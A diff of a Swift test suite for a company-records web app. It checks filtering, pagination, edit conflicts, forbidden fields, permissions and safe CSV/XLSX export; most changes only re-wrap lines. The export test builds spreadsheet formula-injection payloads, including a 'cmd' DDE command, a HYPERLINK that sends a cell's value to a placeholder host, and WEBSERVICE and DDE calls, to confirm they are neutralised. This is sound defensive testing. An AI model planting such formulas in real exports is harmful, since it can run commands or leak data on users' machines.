@@ -12,9 +12,11 @@ import Testing
 @Suite struct CompanyRoutesTests {
     /// `corpora/text/blns.json`: strings that broke other programs.
     static let naughty: [String] = {
-        let shared = ProcessInfo.processInfo.environment["ANWAL_SHARED"].map { URL(fileURLWithPath: $0) }
+        let shared =
+            ProcessInfo.processInfo.environment["ANWAL_SHARED"].map { URL(fileURLWithPath: $0) }
             ?? URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
-            .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("shared")
+            .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent(
+                "shared")
         let file = shared.appendingPathComponent("corpora/text/blns.json")
         guard let data = FileManager.default.contents(atPath: file.path),
             let list = try? JSONDecoder().decode([String].self, from: data)
@@ -60,12 +62,16 @@ import Testing
             try await site.platform.store.insert([wanted, other])
             let viewer = try await site.browser(.viewer)
             let questions = [
-                "filter[nameAr]=شركة أفق", "filter[nameAr][contains]=أفق", "filter[nameEn]=Ufuq", "filter[entityType]=factory",
+                "filter[nameAr]=شركة أفق", "filter[nameAr][contains]=أفق", "filter[nameEn]=Ufuq",
+                "filter[entityType]=factory",
                 "filter[sector]=مقاولات", "filter[subSector]=طرق", "filter[activity]=رصف", "filter[city]=الرياض",
-                "filter[city][startsWith]=الر", "filter[region]=الوسطى", "filter[country]=Saudi Arabia", "filter[website][exists]=true",
-                "filter[linkedinUrl][exists]=true", "filter[tags]=مهم", "filter[sourceFile]=riyadh.xlsx", "filter[dataConfidence]=high",
+                "filter[city][startsWith]=الر", "filter[region]=الوسطى", "filter[country]=Saudi Arabia",
+                "filter[website][exists]=true",
+                "filter[linkedinUrl][exists]=true", "filter[tags]=مهم", "filter[sourceFile]=riyadh.xlsx",
+                "filter[dataConfidence]=high",
                 "filter[leadScore][gte]=80", "filter[priority][in]=high,very_high", "filter[status]=active",
-                "filter[importLogId]=\(run)", "filter[ownerId]=\(owner)", "filter[createdAt][gte]=2026-01-01", "hasEmail=true",
+                "filter[importLogId]=\(run)", "filter[ownerId]=\(owner)", "filter[createdAt][gte]=2026-01-01",
+                "hasEmail=true",
                 "hasPhone=true", "q=افق", "filter[city][ne]=جدة&filter[sector]=مقاولات",
             ]
             for question in questions {
@@ -74,7 +80,9 @@ import Testing
                 #expect(names == ["شركة أفق"], "\(question)")
                 #expect(list?["count"] == 1, "\(question)")
                 let page = try await viewer.get("/companies?\(Self.escaped(question))")
-                #expect(page.status == .ok && page.text.contains("شركة أفق") && !page.text.contains("مؤسسة نخبة"), "\(question)")
+                #expect(
+                    page.status == .ok && page.text.contains("شركة أفق") && !page.text.contains("مؤسسة نخبة"),
+                    "\(question)")
             }
             #expect(try await viewer.get("/api/companies?hasEmail=perhaps").status == .badRequest)
             #expect(try await viewer.get("/api/companies?filter[matchKeys]=x").status == .badRequest)
@@ -97,7 +105,8 @@ import Testing
                 var seen: [String] = [], key = "", pages = 0
                 repeat {
                     let cursor = key.isEmpty ? "" : "&after=\(key)"
-                    let list = try #require(try await viewer.get("/api/companies?limit=10&sort=\(sort)\(cursor)").value().object)
+                    let list = try #require(
+                        try await viewer.get("/api/companies?limit=10&sort=\(sort)\(cursor)").value().object)
                     seen += (list["items"]?.array ?? []).compactMap { $0.object?["_id"]?.string }
                     #expect(list["count"] == 85)
                     key = list["next"]?.string ?? ""
@@ -114,7 +123,9 @@ import Testing
     func `every naughty string comes back as text from every field, and never as markup`() async throws {
         try await Site.with { site in
             let editor = try await site.browser(.sales)
-            for chunk in stride(from: 0, to: Self.naughty.count, by: 12).map({ Self.naughty[$0..<min($0 + 12, Self.naughty.count)] }) {
+            for chunk in stride(from: 0, to: Self.naughty.count, by: 12).map({
+                Self.naughty[$0..<min($0 + 12, Self.naughty.count)]
+            }) {
                 let texts = chunk.map { $0 }
                 func text(_ index: Int) -> String { texts.indices.contains(index) ? texts[index] : "x" }
                 let company = Self.company("شركة \(text(0))") {
@@ -147,7 +158,10 @@ import Testing
                 try await site.platform.store.insert(point)
                 try await site.platform.store.insert(person)
                 try await site.platform.store.insert(match)
-                for path in ["/companies/\(company.id)", "/companies/\(company.id)/edit", "/people/\(person.id)", "/contact-points/\(point.id)/edit"] {
+                for path in [
+                    "/companies/\(company.id)", "/companies/\(company.id)/edit", "/people/\(person.id)",
+                    "/contact-points/\(point.id)/edit",
+                ] {
                     let page = try await editor.get(path)
                     #expect(page.status == .ok, "\(path)")
                     expectHarmless(page.text, texts)
@@ -179,10 +193,12 @@ import Testing
             let company = Self.company("شركة أفق")
             try await site.platform.store.insert(company)
             let editor = try await site.browser(.sales)
-            let refused = try await editor.post("/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "not a site")])
+            let refused = try await editor.post(
+                "/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "not a site")])
             #expect(refused.status == .unprocessableContent)
             #expect(refused.text.contains(#"id="f-website-error""#) && refused.text.contains(#"value="not a site""#))
-            let saved = try await editor.post("/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "ufuq.sa")])
+            let saved = try await editor.post(
+                "/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "ufuq.sa")])
             #expect(saved.status == .seeOther && saved.headers[.location] == "/companies/\(company.id)")
             #expect(try await site.platform.companies.get(company.id).website == "https://ufuq.sa")
         }
@@ -197,12 +213,14 @@ import Testing
             site.clock.advance(by: 5)
             _ = try await editor.post("/companies/\(company.id)", [("city", "جدة"), ("updatedAt", "\(stamp)")])
             site.clock.advance(by: 5)
-            let second = try await editor.post("/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", "\(stamp)")])
+            let second = try await editor.post(
+                "/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", "\(stamp)")])
             #expect(second.status == .conflict)
             #expect(second.text.contains("<del") && second.text.contains("جدة") && second.text.contains("الدمام"))
             #expect(try await site.platform.companies.get(company.id).city == "جدة")
             let shown = try #require(second.text.firstMatch(of: #/name="updatedAt" value="([0-9]+)"/#)).1
-            let third = try await editor.post("/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", String(shown))])
+            let third = try await editor.post(
+                "/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", String(shown))])
             #expect(third.status == .seeOther)
             #expect(try await site.platform.companies.get(company.id).city == "الدمام")
         }
@@ -211,24 +229,34 @@ import Testing
     @Test func `the API creates, changes on a condition, archives, restores and tells the story`() async throws {
         try await Site.with { site in
             let editor = try await site.browser(.sales)
-            let made = try await editor.json(.post, "/api/companies", [
-                "nameAr": "شركة أفق", "tags": ["مهم"], "leadScore": 40, "customFields": ["السجل": "1010"],
-            ])
+            let made = try await editor.json(
+                .post, "/api/companies",
+                [
+                    "nameAr": "شركة أفق", "tags": ["مهم"], "leadScore": 40, "customFields": ["السجل": "1010"],
+                ])
             #expect(made.status == .created)
             let stored = try #require(try made.value().object)
             let id = try #require(stored["_id"]?.string), stamp = try #require(stored["updatedAt"]?.string)
             #expect(stored["customFields"] == ["السجل": "1010"] && stored["searchKeys"] == nil)
             site.clock.advance(by: 5)
-            let changed = try await editor.json(.patch, "/api/companies/\(id)", ["city": "جدة", "tags": nil, "updatedAt": .string(stamp)])
+            let changed = try await editor.json(
+                .patch, "/api/companies/\(id)", ["city": "جدة", "tags": nil, "updatedAt": .string(stamp)])
             #expect(changed.status == .ok)
             #expect(try changed.value().object?["tags"] == nil)
-            let late = try await editor.json(.patch, "/api/companies/\(id)", ["city": "أبها", "updatedAt": .string(stamp)])
+            let late = try await editor.json(
+                .patch, "/api/companies/\(id)", ["city": "أبها", "updatedAt": .string(stamp)])
             #expect(late.status == .conflict)
-            let wrong = try await editor.json(.patch, "/api/companies/\(id)", ["leadScore": 1_000, "status": "archived", "role": "admin"])
+            let wrong = try await editor.json(
+                .patch, "/api/companies/\(id)", ["leadScore": 1_000, "status": "archived", "role": "admin"])
             #expect(wrong.status == .unprocessableContent)
-            #expect(try wrong.value().object?["error"]?.object?["fields"]?.object?.keys.sorted() == ["leadScore", "role", "status"])
-            #expect(try await editor.json(.post, "/api/companies/\(id)/archive").value().object?["status"] == "archived")
-            #expect(try await editor.json(.delete, "/api/companies/\(id)/archive").value().object?["status"] == "active")
+            #expect(
+                try wrong.value().object?["error"]?.object?["fields"]?.object?.keys.sorted() == [
+                    "leadScore", "role", "status",
+                ])
+            #expect(
+                try await editor.json(.post, "/api/companies/\(id)/archive").value().object?["status"] == "archived")
+            #expect(
+                try await editor.json(.delete, "/api/companies/\(id)/archive").value().object?["status"] == "active")
             #expect(try await editor.json(.post, "/api/companies/\(id)/notes", ["text": "مرحبا"]).status == .created)
             let story = try await editor.get("/api/companies/\(id)/timeline").value().object
             #expect(story?["count"] == 5)
@@ -243,11 +271,13 @@ import Testing
             let id = try #require(made?["_id"]?.string)
             let before = try await site.platform.companies.get(try #require(EntityID(id)))
             let forbidden = [
-                "_id", "createdAt", "searchKeys", "matchKeys", "importLogId", "mergedInto", "archivedAt", "sourceFile", "role",
+                "_id", "createdAt", "searchKeys", "matchKeys", "importLogId", "mergedInto", "archivedAt", "sourceFile",
+                "role",
                 "passwordHash", "accountId", "smtpPasswordEncrypted",
             ]
             for field in forbidden {
-                let answer = try await editor.json(.patch, "/api/companies/\(id)", .object([field: "x", "city": "جدة"]))
+                let answer = try await editor.json(
+                    .patch, "/api/companies/\(id)", .object([field: "x", "city": "جدة"]))
                 #expect(answer.status == .unprocessableContent, "\(field)")
             }
             #expect(try await site.platform.companies.get(before.id) == before)
@@ -262,7 +292,10 @@ import Testing
             let page = try await viewer.get("/companies/\(company.id)").text
             #expect(!page.contains("/edit") && !page.contains("/archive") && !page.contains("<textarea"))
             #expect(!(try await viewer.get("/companies").text.contains("/companies/export")))
-            for path in ["/companies/\(company.id)", "/companies/\(company.id)/archive", "/companies/\(company.id)/notes", "/companies"] {
+            for path in [
+                "/companies/\(company.id)", "/companies/\(company.id)/archive", "/companies/\(company.id)/notes",
+                "/companies",
+            ] {
                 #expect(try await viewer.post(path, [("nameAr", "x"), ("text", "x")]).status == .forbidden, "\(path)")
             }
             #expect(try await viewer.get("/companies/export").status == .forbidden)
@@ -279,7 +312,10 @@ extension CompanyRoutesTests {
     /// Cells that a spreadsheet program would run (quality W-20).
     static let formulas: [String] = {
         let heads = ["=", "+", "-", "@", "\t=", "\r=", "=\"", "＝", "'=", " ="]
-        let tails = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.sa?\"&A1,\"go\")", "SUM(A1:A9)", "WEBSERVICE(\"http://x\")", "DDE(\"a\";\"b\")"]
+        let tails = [
+            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.sa?\"&A1,\"go\")", "SUM(A1:A9)",
+            "WEBSERVICE(\"http://x\")", "DDE(\"a\";\"b\")",
+        ]
         return heads.flatMap { head in tails.map { head + $0 } }
     }()
 
@@ -296,7 +332,9 @@ extension CompanyRoutesTests {
             let manager = try await site.browser(.manager)
             for format in ["xlsx", "csv"] {
                 let answer = try await manager.get("/companies/export?format=\(format)")
-                #expect(answer.status == .ok && answer.headers[.contentDisposition] == "attachment; filename=\"companies.\(format)\"")
+                #expect(
+                    answer.status == .ok
+                        && answer.headers[.contentDisposition] == "attachment; filename=\"companies.\(format)\"")
                 let file = FileManager.default.temporaryDirectory.appendingPathComponent("\(ObjectID()).\(format)")
                 defer { try? FileManager.default.removeItem(at: file) }
                 try Data(answer.body.readableBytesView).write(to: file)
@@ -306,10 +344,14 @@ extension CompanyRoutesTests {
                     let cell = row.first ?? ""
                     #expect(!["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) }, "\(cell)")
                 }
-                let first = Set(rows.dropFirst().compactMap(\.first).map { format == "csv" ? CSVWriter.unguarded($0) : $0 })
-                #expect(first.isSuperset(of: Self.formulas.filter { !$0.contains("\r") && !$0.contains("\t") && $0.first != " " }))
+                let first = Set(
+                    rows.dropFirst().compactMap(\.first).map { format == "csv" ? CSVWriter.unguarded($0) : $0 })
+                #expect(
+                    first.isSuperset(
+                        of: Self.formulas.filter { !$0.contains("\r") && !$0.contains("\t") && $0.first != " " }))
             }
-            let left = FileManager.default.enumerator(atPath: site.platform.folder.appendingPathComponent("exports").path)?.allObjects
+            let left = FileManager.default.enumerator(
+                atPath: site.platform.folder.appendingPathComponent("exports").path)?.allObjects
             #expect(left?.count == 0)
             #expect(try await site.platform.store.count(AuditLog.self, where: .equals("action", "export")) == 2)
         }
